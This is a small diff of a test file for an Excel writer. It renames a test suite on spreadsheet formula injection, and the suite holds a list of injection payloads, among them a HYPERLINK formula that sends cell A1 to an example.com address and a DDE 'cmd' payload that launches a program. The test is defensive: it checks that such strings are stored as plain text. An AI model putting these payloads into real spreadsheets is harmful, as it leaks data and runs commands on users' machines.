@@ -160,7 +160,7 @@ describe("ExcelJsWriter: only its own sheets", () => {
   });
 });
 
-describe("ExcelJsWriter: formula injection (issue 5)", () => {
+describe("ExcelJsWriter: formula injection", () => {
   const attacks = ['=HYPERLINK("http://example.com/?q="&A1,"Klicka")', "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"];
 
   it("writes comments that look like formulas as text, and reads them back unchanged", async () => {
